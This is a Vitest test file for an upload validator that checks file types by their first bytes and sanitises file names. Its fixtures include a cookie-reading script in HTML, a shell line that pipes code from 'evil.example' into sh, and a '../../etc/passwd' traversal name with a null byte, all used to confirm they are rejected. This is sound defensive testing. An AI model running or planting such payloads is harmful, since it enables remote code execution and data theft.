import { describe, expect, it } from 'vitest';
import { cleanFileName, fileKindOf } from './files.js';

const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n', 'latin1');
const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(16)]);
const jpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(16)]);
const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(26)]);
const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(24)]);
const html = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');

describe('the kind of an uploaded file', () => {
  it('is what its first bytes say, whatever its name: a renamed HTML page or script is no PDF', () => {
    expect(fileKindOf('x.pdf', html)).toBeNull();
    expect(fileKindOf('x.pdf', script)).toBeNull();
    expect(fileKindOf('x.pdf', Buffer.alloc(0))).toBeNull();
    expect(fileKindOf('x.pdf', pdf)).toEqual({ ext: 'pdf', contentType: 'application/pdf' });
    expect(fileKindOf('Referat 2024.PDF', pdf)).toEqual({ ext: 'pdf', contentType: 'application/pdf' });
  });

  it('must match its extension too: a PNG named .jpg is refused', () => {
    expect(fileKindOf('foto.jpg', png)).toBeNull();
    expect(fileKindOf('foto.png', png)).toEqual({ ext: 'png', contentType: 'image/png' });
    expect(fileKindOf('foto.jpeg', jpeg)).toEqual({ ext: 'jpeg', contentType: 'image/jpeg' });
  });

  it('knows office documents by their container: ZIP for docx and xlsx, OLE for doc and xls', () => {
    expect(fileKindOf('budget.xlsx', zip)?.contentType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(fileKindOf('ansøgning.docx', zip)?.contentType).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    expect(fileKindOf('ansøgning.doc', ole)?.contentType).toBe('application/msword');
    expect(fileKindOf('budget.xls', ole)?.contentType).toBe('application/vnd.ms-excel');
    expect(fileKindOf('budget.xls', zip)).toBeNull();
    expect(fileKindOf('ansøgning.docx', ole)).toBeNull();
  });

  it('is refused when the extension is unknown, missing or not one the caller allows', () => {
    expect(fileKindOf('side.html', html)).toBeNull();
    expect(fileKindOf('pdf', pdf)).toBeNull();
    // Names of the object's own properties are no kinds.
    expect(fileKindOf('x.constructor', pdf)).toBeNull();
    expect(fileKindOf('foto.png', png, ['pdf', 'docx'])).toBeNull();
    expect(fileKindOf('x.pdf', pdf, ['pdf', 'docx'])).toEqual({ ext: 'pdf', contentType: 'application/pdf' });
  });
});

describe('an uploaded file name', () => {
  it('loses its folders and control characters, and falls back when nothing is left', () => {
    expect(cleanFileName('C:\\Users\\signe\\Slides "endelig".pptx', 'material')).toBe('Slides endelig.pptx');
    expect(cleanFileName('../../etc/passwd\u0000', 'material')).toBe('passwd');
    expect(cleanFileName('uploads/', 'material')).toBe('material');
  });
});
